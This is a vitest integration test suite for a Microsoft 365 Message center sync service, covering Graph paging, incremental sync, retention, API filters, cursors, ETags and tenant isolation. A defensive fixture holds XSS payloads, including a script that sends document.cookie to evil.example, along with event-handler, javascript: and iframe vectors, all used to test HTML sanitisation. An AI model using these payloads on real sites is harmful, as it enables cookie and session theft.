/**
 * The Message center on the server (DESIGN.md, "Across tenants and Message center").
 *
 * - From Microsoft's payloads: the Graph client reads `test/fixtures/graph` served by a loopback
 *   HTTP server posing as Graph (all pages, `$filter` on `lastModifiedDateTime`), the real store
 *   writes them to a real SQLite file migrated by `openDatabase` (or, with `TEST_STORE=postgres`,
 *   a fresh PostgreSQL database: `tempStore`), and the API (`createApp`) serves
 *   them: shapes, sanitised bodies, filters, search, cursors, 400s, ETags, visibility.
 * - From the simulator through the real poller (`startStack`): the first sync reads every post,
 *   quiet cycles cost two Graph requests and three when posts are due (every 30 minutes, from the
 *   watermark), a failing read of posts never fails the health sync, a full read marks what
 *   Microsoft dropped, and the retention prune removes it RETENTION_DAYS later.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app.js';
import { loadConfig } from '../../server/config.js';
import type { Core } from '../../server/core/index.js';
import type { MessageRecord } from '../../server/domain.js';
import { GraphClient } from '../../server/microsoft/graph.js';
import { readMessage } from '../../server/microsoft/normalize.js';
import { BUILT_IN_APP } from '../../demo/simulator/index.js';
import type { MessageDetail, MessagesResponse } from '../../widgets/api/types.js';
import { graphFixture } from '../support/fixtures.js';
import { startStack, tempStore, waitFor, type Stack, type TempStore } from '../support/stack.js';
import { testCore } from './support/core.js';
import { addAuthorizationRow } from './support/db.js';

const MESSAGES = '/v1.0/admin/serviceAnnouncement/messages';
const MIN = 60_000;
const DAY = 24 * 60 * MIN;

type ErrorJson = { error: { code: string; message: string } };

// ---------------------------------------------------------------------------------------------
// Microsoft's payloads through a loopback "Graph", the store and the API

const T1 = '84841066-274d-4ec0-a5c1-276be684bdd3'; // acme's
const T2 = '22222222-2222-4222-8222-222222222222'; // globex's
const T3 = '33333333-3333-4333-8333-333333333333'; // acme's, the posts of the filter tests

/** A post no sane service would send: every trick a body, an enum or a detail could carry. */
const HOSTILE = {
  ...(graphFixture('serviceupdatemessage-get.json') as Record<string, unknown>),
  '@odata.context': undefined,
  id: 'MC999001',
  title: 'Exchange Online: <img src=x onerror=alert(1)> retirement',
  lastModifiedDateTime: '2021-01-09T12:00:00Z',
  category: 'FutureCategoryFromMicrosoft',
  severity: 'CRITICAL',
  isMajorChange: false,
  tags: ['Retirement', 'Admin impact'],
  services: ['Exchange Online'],
  actionRequiredByDateTime: '2021-03-01T00:00:00Z',
  details: [
    { name: 'Summary', value: 'Basic auth goes away.' },
    { name: 'RoadmapIds', value: '1234, 5678' },
    { name: 'Platforms', value: 'Web, Desktop' },
    { name: 'BrandNewDetail', value: 'kept' },
  ],
  body: {
    contentType: 'Html',
    content:
      '<p onclick="steal()">Read this</p><script>fetch("https://evil.example/?"+document.cookie)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a><a href="https://learn.microsoft.com/x">docs</a><iframe src="https://evil.example"></iframe>',
  },
};

let graph: Server;
let graphBase: string;
const graphSeen: string[] = [];
/** What the loopback Graph answers to a `$filter` read (an incremental sync). */
let changedPosts: unknown[] = [];
/** The first page of the unfiltered list; the second page is {@link HOSTILE}. */
let firstPage: unknown[] = [];

let store: TempStore;
let app: ReturnType<typeof createApp>;
let core: Core;
let clock = new Date('2021-01-10T00:00:00Z');
const keys = {} as Record<'acme' | 'globex', string>;

function answer(req: IncomingMessage): unknown {
  const url = new URL(req.url!, graphBase);
  if (url.pathname !== MESSAGES) return { error: { code: 'NotFound', message: 'no' } };
  if (url.searchParams.has('$filter')) return { value: changedPosts };
  if (url.searchParams.get('$skip') === '100') return { '@odata.context': 'x', value: [HOSTILE] };
  const fixture = graphFixture('serviceannouncement-list-messages.json') as Record<string, unknown>;
  // Microsoft's nextLink points at graph.microsoft.com; this Graph is on loopback.
  return { ...fixture, value: firstPage, '@odata.nextLink': String(fixture['@odata.nextLink']).replace('https://graph.microsoft.com', graphBase) };
}

const graphClient = () => new GraphClient({ baseUrl: graphBase, getToken: async () => 'token', timeoutMs: 5000, maxRetries: 0 });

const api = (key: string | null, path: string, headers: Record<string, string> = {}) =>
  app.request(path, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });
const list = async (key: string, query = '', tenant = T1) => {
  const res = await api(key, `/api/tenants/${tenant}/messages${query}`);
  expect(res.status, `${query}: ${res.status === 400 ? await res.clone().text() : ''}`).toBe(200);
  return (await res.json()) as MessagesResponse;
};

/** Writes what a sync read (no services or issues; only the posts matter here). */
const syncPosts = (tenantId: string, items: MessageRecord[], full: boolean, at = clock) =>
  store.store.applySync(tenantId, { services: [], issues: [], fullIssueSync: false, messages: { items, full } }, at);

beforeAll(async () => {
  graph = createServer((req, res) => {
    graphSeen.push(req.url!);
    const body = answer(req);
    res.writeHead('error' in (body as object) ? 404 : 200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(body));
  });
  await new Promise<void>((r) => graph.listen(0, '127.0.0.1', r));
  graphBase = `http://127.0.0.1:${(graph.address() as AddressInfo).port}`;
  firstPage = (graphFixture('serviceannouncement-list-messages.json') as { value: unknown[] }).value;

  store = await tempStore();
  const config = loadConfig(store.env);
  core = testCore(store.store, config, () => clock);
  app = createApp({ config, core, log: () => {} });
  const acme = await store.store.findOrCreateOrg('acme');
  const globex = await store.store.findOrCreateOrg('globex');
  keys.acme = (await store.store.createApiKey({ orgName: 'acme', role: 'viewer' })).key;
  keys.globex = (await store.store.createApiKey({ orgName: 'globex', role: 'viewer' })).key;
  await addAuthorizationRow(store, { orgId: acme.id, label: 'contoso.onmicrosoft.com', tenantId: T1, status: 'active' });
  await addAuthorizationRow(store, { orgId: globex.id, label: 'fabrikam', tenantId: T2, status: 'active' });
  await addAuthorizationRow(store, { orgId: acme.id, label: 'Northwind Traders', tenantId: T3, status: 'active' });
});
afterAll(async () => {
  await store.dispose();
  await new Promise<void>((r) => graph.close(() => r()));
});

describe('Message center posts from Microsoft’s payloads', () => {
  it('reads every page of /messages, normalises the enums, keeps unknown values and detail names, and serves the contract shapes', async () => {
    graphSeen.length = 0;
    const read = await graphClient().messages(null);
    expect(graphSeen).toEqual([MESSAGES, `${MESSAGES}?$skip=100`]);
    expect(read.map((m) => m.id)).toEqual(['MC172851', 'MC999001']);
    // PascalCase in the documentation, camelCase stored; a new value is kept, never dropped.
    expect(read[0]).toMatchObject({ category: 'stayInformed', severity: 'normal', isMajorChange: true, body: { contentType: 'html' } });
    expect(read[1]).toMatchObject({ category: 'FutureCategoryFromMicrosoft', severity: 'critical', actionRequiredByDateTime: '2021-03-01T00:00:00.000Z' });
    // The single-post fixture reads the same way.
    expect(readMessage(graphFixture('serviceupdatemessage-get.json'))).toMatchObject({ id: 'MC172851', category: 'stayInformed', tags: ['Updated message'] });

    await syncPosts(T1, read, true);
    const page = await list(keys.acme);
    expect(page.nextCursor).toBeNull();
    expect(page.messages.map((m) => m.id)).toEqual(['MC999001', 'MC172851']);
    expect(page.messages[1]).toEqual({
      id: 'MC172851',
      title: '(Updated) New feature: Changes to PowerPoint and Word to open files faster',
      category: 'stayInformed',
      severity: 'normal',
      isMajorChange: true,
      services: ['SharePoint Online', 'OneDrive for Business'],
      tags: ['Updated message'],
      startDateTime: '2019-02-01T18:51:00.000Z',
      endDateTime: '2019-06-01T08:00:00.000Z',
      lastModifiedDateTime: '2021-01-08T01:10:06.843Z',
      actionRequiredByDateTime: null,
    });
    const detail = (await (await api(keys.acme, `/api/tenants/${T1}/messages/MC172851`)).json()) as MessageDetail;
    expect(detail).toMatchObject({ ...page.messages[1], details: [{ name: 'ExternalLink', value: 'https://support.office.com/article/office-document-cache-settings-4b497318-ae4f-4a99-be42-b242b2e8b692' }] });
    expect(detail.html).toMatch(/^<p>Updated January 07, 2021: Based on learnings/);
    const hostile = (await (await api(keys.acme, `/api/tenants/${T1}/messages/MC999001`)).json()) as MessageDetail;
    expect(hostile.details).toEqual(HOSTILE.details);
    expect(hostile.category).toBe('FutureCategoryFromMicrosoft');
  });

  it('sanitises hostile bodies: no script, no event handler, no javascript: URL, no iframe; text and safe links stay', async () => {
    const { html } = (await (await api(keys.acme, `/api/tenants/${T1}/messages/MC999001`)).json()) as MessageDetail;
    expect(html).toContain('Read this');
    expect(html).toContain('href="https://learn.microsoft.com/x"');
    for (const bad of ['<script', 'evil.example', 'onclick', 'onerror', 'javascript:', '<iframe', 'document.cookie']) expect(html, bad).not.toContain(bad);
    // The stored row holds the sanitised body too: nothing hostile is kept to leak later.
    const row = await store.row('messages', { tenantId: T1, id: 'MC999001' });
    expect(row.html).toBe(html);
  });

  it('reads incrementally with $filter=lastModifiedDateTime ge …, updates what changed and advances the watermark', async () => {
    const watermark = (await store.row('tenants', { tenantId: T1 })).messagesWatermark;
    expect(watermark).toBe('2021-01-09T12:00:00.000Z');
    changedPosts = [{ ...graphFixture('serviceupdatemessage-get.json') as object, title: '(Updated) Changes to PowerPoint and Word, rollout restarted', lastModifiedDateTime: '2021-01-09T13:00:00Z' }];
    graphSeen.length = 0;
    const changed = await graphClient().messages(watermark);
    expect(graphSeen).toEqual([`${MESSAGES}?$filter=lastModifiedDateTime%20ge%202021-01-09T12%3A00%3A00.000Z`]);
    clock = new Date('2021-01-10T00:30:00Z');
    await syncPosts(T1, changed, false);
    const page = await list(keys.acme);
    expect(page.messages.map((m) => [m.id, m.title])).toEqual([
      ['MC172851', '(Updated) Changes to PowerPoint and Word, rollout restarted'],
      ['MC999001', HOSTILE.title],
    ]);
    const row = await store.row('tenants', { tenantId: T1 });
    expect(row.messagesWatermark).toBe('2021-01-09T13:00:00.000Z');
    expect(row.lastMessagesSyncAt).toEqual(clock);
    // The full read before stays the last full one.
    expect(row.lastFullMessagesSyncAt).toEqual(new Date('2021-01-10T00:00:00Z'));
    // An older copy never moves the watermark back.
    await syncPosts(T1, [], false);
    expect((await store.row('tenants', { tenantId: T1 })).messagesWatermark).toBe('2021-01-09T13:00:00.000Z');
  });

  it('keeps a post a full read no longer lists (still served) and prunes it RETENTION_DAYS after its last change', async () => {
    firstPage = [];
    const read = await graphClient().messages(null);
    expect(read.map((m) => m.id)).toEqual(['MC999001']);
    await syncPosts(T1, read, true);
    const listed = (await store.rows('messages', { tenantId: T1 })).map((m) => ({ id: m.id, listed: m.listedByMicrosoft }));
    expect(listed.sort((a, b) => a.id.localeCompare(b.id))).toEqual([
      { id: 'MC172851', listed: false },
      { id: 'MC999001', listed: true },
    ]);
    expect((await api(keys.acme, `/api/tenants/${T1}/messages/MC172851`)).status).toBe(200);
    // 400 days after 2021-01-09T13:00 less a minute: kept; after it: gone. A listed post is never pruned.
    clock = new Date(Date.parse('2021-01-09T13:00:00Z') + 400 * DAY - MIN);
    expect(await core.messages.pruneRetained(400)).toBe(0);
    clock = new Date(Date.parse('2021-01-09T13:00:00Z') + 400 * DAY + MIN);
    expect(await core.messages.pruneRetained(400)).toBe(1);
    expect((await api(keys.acme, `/api/tenants/${T1}/messages/MC172851`)).status).toBe(404);
    expect((await list(keys.acme)).messages.map((m) => m.id)).toEqual(['MC999001']);
    clock = new Date(Date.parse('2021-01-09T12:00:00Z') + 4000 * DAY);
    expect(await core.messages.pruneRetained(400)).toBe(0);
    firstPage = (graphFixture('serviceannouncement-list-messages.json') as { value: unknown[] }).value;
  });
});

describe('GET /api/tenants/:tenant/messages: filters, search, cursors, validation', () => {
  const base = readMessage(graphFixture('serviceupdatemessage-get.json'));
  const post = (n: number, p: Partial<MessageRecord>): MessageRecord => ({
    ...base,
    id: `MC80000${n}`,
    title: `Post ${n}`,
    tags: [],
    isMajorChange: false,
    actionRequiredByDateTime: null,
    lastModifiedDateTime: `2024-05-0${n}T10:00:00.000Z`,
    ...p,
  });
  const posts = [
    post(1, { category: 'planForChange', services: ['Microsoft Teams'], tags: ['Retirement', 'Admin impact'], isMajorChange: true, actionRequiredByDateTime: '2024-07-01T00:00:00.000Z' }),
    post(2, { category: 'stayInformed', services: ['Exchange Online'], tags: ['Feature update'], title: 'Größere Postfächer für alle' }),
    post(3, { category: 'preventOrFixIssue', services: ['Microsoft Entra', 'Exchange Online'], tags: ['Admin impact'], actionRequiredByDateTime: '2024-06-01T00:00:00.000Z' }),
    post(4, { category: 'planForChange', services: ['SharePoint Online'], tags: ['User impact', 'Updated message'], isMajorChange: true }),
    post(5, { category: 'stayInformed', services: ['Microsoft Teams'], tags: ['User impact'] }),
    // Same lastModifiedDateTime as post 5: ordered by id.
    post(6, { category: 'stayInformed', services: ['Planner'], tags: [], lastModifiedDateTime: '2024-05-05T10:00:00.000Z' }),
  ];
  const ids = async (query: string, key = keys.acme) => (await list(key, query, T3)).messages.map((m) => m.id);

  beforeAll(async () => {
    await syncPosts(T3, posts, true);
  });

  it('filters by category, service, tag, major and actionRequired, case-insensitively, newest change first then id', async () => {
    expect(await ids('')).toEqual(['MC800005', 'MC800006', 'MC800004', 'MC800003', 'MC800002', 'MC800001']);
    expect(await ids('?category=planForChange')).toEqual(['MC800004', 'MC800001']);
    expect(await ids('?category=PLANFORCHANGE')).toEqual(['MC800004', 'MC800001']);
    expect(await ids('?category=somethingNew')).toEqual([]);
    expect(await ids('?service=exchange%20online')).toEqual(['MC800003', 'MC800002']);
    // A service filter matches a whole service name, not a part of one.
    expect(await ids('?service=Exchange')).toEqual([]);
    expect(await ids('?tag=admin%20IMPACT')).toEqual(['MC800003', 'MC800001']);
    expect(await ids('?major=true')).toEqual(['MC800004', 'MC800001']);
    expect(await ids('?major=false')).toHaveLength(6);
    expect(await ids('?actionRequired=true')).toEqual(['MC800003', 'MC800001']);
    expect(await ids('?actionRequired=true&major=true&tag=Retirement&service=Microsoft%20Teams&category=planForChange')).toEqual(['MC800001']);
    expect(await ids('?service=&tag=&category=')).toHaveLength(6);
  });

  it('searches id, title, services and tags (Unicode case folding), and nothing else', async () => {
    expect(await ids('?q=mc800003')).toEqual(['MC800003']);
    expect(await ids('?q=GRÖSSERE')).toEqual(['MC800002']);
    expect(await ids('?q=entra')).toEqual(['MC800003']);
    expect(await ids('?q=updated%20mess')).toEqual(['MC800004']);
    expect(await ids('?q=planner')).toEqual(['MC800006']);
    // The body is not searched.
    expect(await ids('?q=Based%20on%20learnings')).toEqual([]);
    expect(await ids('?q=100%25_')).toEqual([]);
  });

  it('pages with an opaque cursor: every post once, in order, with the filters kept', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: MessagesResponse = await list(keys.acme, `?limit=2${cursor ? `&cursor=${cursor}` : ''}`, T3);
      seen.push(...page.messages.map((m) => m.id));
      cursor = page.nextCursor;
      pages++;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toEqual(await ids(''));
    const first = await list(keys.acme, '?limit=1&category=stayInformed', T3);
    expect(first.messages.map((m) => m.id)).toEqual(['MC800005']);
    expect(await ids(`?limit=5&category=stayInformed&cursor=${first.nextCursor}`)).toEqual(['MC800006', 'MC800002']);
  });

  it('answers 400 with the JSON error shape for a bad limit, cursor, flag or category', async () => {
    for (const query of ['?limit=0', '?limit=101', '?limit=ten', '?cursor=not-a-cursor', '?cursor=%%%', '?major=yes', '?major=1', '?actionRequired=TRUE!', '?category=plan%20for%20change', `?q=${'x'.repeat(201)}`]) {
      const res = await api(keys.acme, `/api/tenants/${T3}/messages${query}`);
      expect(res.status, query).toBe(400);
      expect(((await res.json()) as ErrorJson).error.code, query).toBe('validation_failed');
    }
    const bad = await api(keys.acme, `/api/tenants/${T3}/messages/MC<script>`);
    expect(bad.status).toBe(400);
  });

  it('names the tenant by id or label, and is invisible to another org (404, also for posts) and to no key (401)', async () => {
    expect(await ids('', keys.acme)).toHaveLength(6);
    expect((await list(keys.acme, '', 'northwind%20traders')).messages).toHaveLength(6);
    for (const path of [`/api/tenants/${T3}/messages`, `/api/tenants/${T3}/messages/MC800001`, `/api/tenants/${T1}/messages`]) {
      const res = await api(keys.globex, path);
      expect(res.status, path).toBe(404);
      expect(((await res.json()) as ErrorJson).error.code).toBe('not_found');
    }
    expect((await api(keys.acme, `/api/tenants/${T3}/messages/MC000000`)).status).toBe(404);
    expect((await api(null, `/api/tenants/${T3}/messages`)).status).toBe(401);
    // The other org's own tenant has no posts: an empty feed, not an error.
    expect(await list(keys.globex, '', T2)).toEqual({ messages: [], nextCursor: null });
  });

  it('answers with an ETag, 304 to a matching If-None-Match, and Cache-Control private, no-cache', async () => {
    const first = await api(keys.acme, `/api/tenants/${T3}/messages?tag=User%20impact`);
    expect(first.headers.get('cache-control')).toBe('private, no-cache');
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"/);
    expect((await api(keys.acme, `/api/tenants/${T3}/messages?tag=User%20impact`, { 'if-none-match': etag })).status).toBe(304);
    const detail = await api(keys.acme, `/api/tenants/${T3}/messages/MC800004`);
    expect((await api(keys.acme, `/api/tenants/${T3}/messages/MC800004`, { 'if-none-match': detail.headers.get('etag')! })).status).toBe(304);
  });
});

// ---------------------------------------------------------------------------------------------
// The simulator through the real poller

describe('Message center sync through the poller, against the simulator', () => {
  let stack: Stack | undefined;
  afterEach(async () => {
    await stack?.close();
    stack = undefined;
  });

  async function authorizedAndSynced(s: Stack, key: string) {
    const tid = s.simulator.tenants[0]!.tenantId;
    await s.authorize(key, 0);
    await waitFor(async () => {
      const body = (await (await s.api(key, '/api/tenants')).json()) as { tenants: Array<{ tenantId: string; lastSyncAt: string | null }> };
      return body.tenants.find((t) => t.tenantId === tid)?.lastSyncAt;
    }, 'first sync');
    return tid;
  }

  /** Every post Graph (the simulator) lists for the tenant, as the built-in app reads them. */
  async function simulatorPosts(s: Stack, tenantId: string): Promise<Array<{ id: string; title: string; lastModifiedDateTime: string }>> {
    const token = await fetch(`${s.simulator.url}/${tenantId}/oauth2/v2.0/token`, {
      method: 'POST',
      body: new URLSearchParams({ grant_type: 'client_credentials', client_id: BUILT_IN_APP.clientId, client_secret: BUILT_IN_APP.clientSecret, scope: 'https://graph.microsoft.com/.default' }),
    });
    const { access_token } = (await token.json()) as { access_token: string };
    const res = await fetch(`${s.simulator.url}${MESSAGES}?$top=1000`, { headers: { authorization: `Bearer ${access_token}` } });
    return ((await res.json()) as { value: Array<{ id: string; title: string; lastModifiedDateTime: string }> }).value;
  }

  const allPosts = async (s: Stack, key: string, tenantId: string) => {
    const out: MessagesResponse['messages'] = [];
    let cursor: string | null = null;
    do {
      const page = (await (await s.api(key, `/api/tenants/${tenantId}/messages?limit=100${cursor ? `&cursor=${cursor}` : ''}`)).json()) as MessagesResponse;
      out.push(...page.messages);
      cursor = page.nextCursor;
    } while (cursor);
    return out;
  };
  const tenantRow = (s: Stack, tenantId: string) => s.tenantRow(tenantId);

  it('reads every post on the first sync, then costs 2 Graph requests in a quiet cycle and 3 when posts are due, reading them from the watermark', async () => {
    stack = await startStack({ manualClock: true });
    const s = stack;
    const key = s.key('org', 'viewer');
    const tid = await authorizedAndSynced(s, s.key('org'));
    const firstSync = await s.graphRequests(tid);
    // The first sync reads every post, unfiltered.
    expect(firstSync.filter((r) => r.path === MESSAGES).map((r) => r.query)).toEqual(['']);
    const graphPosts = await simulatorPosts(s, tid);
    expect(graphPosts.length).toBeGreaterThan(5);
    const served = await allPosts(s, key, tid);
    expect(served.map((m) => m.id)).toEqual(graphPosts.map((p) => p.id));
    expect(served.map((m) => m.title)).toEqual(graphPosts.map((p) => p.title));
    const watermark = (await tenantRow(s, tid)).messagesWatermark!;
    expect(watermark).toBe(graphPosts.map((p) => new Date(p.lastModifiedDateTime).toISOString()).sort().at(-1));

    // Quiet cycles: health and issues only, until 30 minutes have passed since the posts were read.
    let before = (await s.graphRequests(tid)).length;
    for (let i = 0; i < 4; i++) {
      s.advance(6 * MIN);
      const [outcome] = await s.server.poller.runCycle();
      expect(outcome, `cycle ${i + 1}`).toMatchObject({ status: 'ok', requests: 2, messages: 'not-due' });
    }
    expect((await s.graphRequests(tid)).slice(before).filter((r) => r.path === MESSAGES)).toEqual([]);

    // Microsoft revises a post; the next due read asks only for what changed since the watermark.
    const target = graphPosts.at(-1)!;
    expect((await s.control('PATCH', `/_simulator/tenants/${tid}/messages/${target.id}`, { isMajorChange: true, actionRequiredByDateTime: '2031-01-31T00:00:00Z' })).status).toBe(200);
    s.advance(6 * MIN);
    before = (await s.graphRequests(tid)).length;
    const [due] = await s.server.poller.runCycle();
    // 30 minutes after the first read: the posts are due again.
    expect(due).toMatchObject({ status: 'ok', requests: 3, messages: { full: false } });
    const log = (await s.graphRequests(tid)).slice(before);
    expect(log.map((r) => r.path)).toEqual(['/v1.0/admin/serviceAnnouncement/healthOverviews', '/v1.0/admin/serviceAnnouncement/issues', MESSAGES]);
    const since = new Date(Date.parse(watermark) - MIN).toISOString();
    expect(decodeURIComponent(log[2]!.query)).toBe(`?$filter=lastModifiedDateTime ge ${since}`);
    const updated = (await (await s.api(key, `/api/tenants/${tid}/messages?limit=1`)).json()) as MessagesResponse;
    expect(updated.messages[0]).toMatchObject({ id: target.id, isMajorChange: true, actionRequiredByDateTime: '2031-01-31T00:00:00.000Z' });
    expect(updated.messages[0]!.title).toMatch(/^\(Updated\) /);
    expect(updated.messages[0]!.tags).toContain('Updated message');
    expect((await tenantRow(s, tid)).messagesWatermark! > watermark).toBe(true);

    // And quiet again for the next half hour.
    s.advance(6 * MIN);
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ status: 'ok', requests: 2, messages: 'not-due' });
  });

  it('keeps a tenant without any post at 2 Graph requests in a quiet cycle', async () => {
    stack = await startStack({ manualClock: true });
    const s = stack;
    const tid = s.simulator.tenants[0]!.tenantId;
    for (const post of await simulatorPosts(s, tid)) expect((await s.control('DELETE', `/_simulator/tenants/${tid}/messages/${post.id}`)).status).toBe(204);
    const key = s.key('org');
    const before = (await s.graphRequests(tid)).length;
    await authorizedAndSynced(s, key);
    expect((await s.graphRequests(tid)).slice(before).filter((r) => r.path === MESSAGES).map((r) => r.query)).toEqual(['']);
    expect(await allPosts(s, key, tid)).toEqual([]);
    for (let i = 0; i < 4; i++) {
      s.advance(6 * MIN);
      expect((await s.server.poller.runCycle())[0], `cycle ${i + 1}`).toMatchObject({ status: 'ok', requests: 2, messages: 'not-due' });
    }
    // Due again after 30 minutes; with no watermark the read is unfiltered (complete).
    s.advance(6 * MIN);
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ status: 'ok', requests: 3, messages: { read: 0, full: true } });
  });

  it('keeps the health sync when the posts cannot be read: health written, old posts kept, posts tried again next cycle', async () => {
    const lines: string[] = [];
    stack = await startStack({ manualClock: true, log: (line) => lines.push(line) });
    const s = stack;
    const key = s.key('org');
    const tid = await authorizedAndSynced(s, key);
    const stored = (await allPosts(s, key, tid)).length;
    expect(stored).toBeGreaterThan(0);
    // Every try of the posts (the client retries twice) fails; health and issues answer.
    expect((await s.control('POST', `/_simulator/tenants/${tid}/faults`, { kind: 'error', status: 503, count: 3, path: MESSAGES })).status).toBe(201);
    s.advance(31 * MIN);
    const before = (await s.graphRequests(tid)).length;
    const [outcome] = await s.server.poller.runCycle();
    expect(outcome).toMatchObject({ status: 'ok', messages: { error: expect.stringContaining('503') } });
    expect((await s.graphRequests(tid)).slice(before).map((r) => [r.path, r.status])).toEqual([
      ['/v1.0/admin/serviceAnnouncement/healthOverviews', 200],
      ['/v1.0/admin/serviceAnnouncement/issues', 200],
      [MESSAGES, 503],
      [MESSAGES, 503],
      [MESSAGES, 503],
    ]);
    expect(lines.some((l) => l.includes('Message center posts not read'))).toBe(true);
    const tenant = ((await (await s.api(key, '/api/tenants')).json()) as { tenants: Array<{ lastSyncAt: string; lastSyncError: string | null }> }).tenants[0]!;
    expect(tenant).toMatchObject({ lastSyncAt: s.now().toISOString(), lastSyncError: null });
    expect(await allPosts(s, key, tid)).toHaveLength(stored);
    // Still due: the next cycle reads them.
    s.advance(6 * MIN);
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ status: 'ok', requests: 3, messages: { full: false } });
  });

  it('lets a throttled read of the posts make the whole tenant wait for Retry-After, as any throttled Graph request does', async () => {
    stack = await startStack({ manualClock: true });
    const s = stack;
    const tid = await authorizedAndSynced(s, s.key('org'));
    expect((await s.control('POST', `/_simulator/tenants/${tid}/faults`, { kind: 'throttle', retryAfter: 600, count: 1, path: MESSAGES })).status).toBe(201);
    s.advance(31 * MIN);
    const [outcome] = await s.server.poller.runCycle();
    expect(outcome).toMatchObject({ status: 'throttled', nextAttemptAt: new Date(s.now().getTime() + 600_000) });
    // Nothing until Graph's wait is over, then health and posts together.
    s.advance(6 * MIN);
    expect(await s.server.poller.runCycle()).toEqual([]);
    s.advance(5 * MIN);
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ status: 'ok', requests: 3, messages: { full: false } });
  });

  it('reads every post again with the full resync, keeps what Microsoft dropped, and the retention prune removes it later', async () => {
    stack = await startStack({ manualClock: true, env: { FULL_SYNC_MINUTES: '60', RETENTION_DAYS: '10' } });
    const s = stack;
    const key = s.key('org');
    const tid = await authorizedAndSynced(s, key);
    const gone = (await simulatorPosts(s, tid)).at(-1)!.id;
    expect((await s.control('DELETE', `/_simulator/tenants/${tid}/messages/${gone}`)).status).toBe(204);
    // An incremental read cannot notice a removal.
    s.advance(31 * MIN);
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ messages: { full: false } });
    expect((await s.api(key, `/api/tenants/${tid}/messages/${gone}`)).status).toBe(200);
    s.advance(30 * MIN);
    const before = (await s.graphRequests(tid)).length;
    expect((await s.server.poller.runCycle())[0]).toMatchObject({ status: 'ok', full: true, messages: { full: true } });
    expect((await s.graphRequests(tid)).slice(before).filter((r) => r.path === MESSAGES).map((r) => r.query)).toEqual(['']);
    const row = await s.row('messages', { tenantId: tid, id: gone });
    expect(row.listedByMicrosoft).toBe(false);
    expect((await s.api(key, `/api/tenants/${tid}/messages/${gone}`)).status).toBe(200);
    // RETENTION_DAYS after its last change the prune (at start-up, then hourly) removes it.
    s.advance(10 * DAY);
    await s.restart();
    expect((await s.api(key, `/api/tenants/${tid}/messages/${gone}`)).status).toBe(404);
    expect((await allPosts(s, key, tid)).length).toBe((await simulatorPosts(s, tid)).length);
  });
});
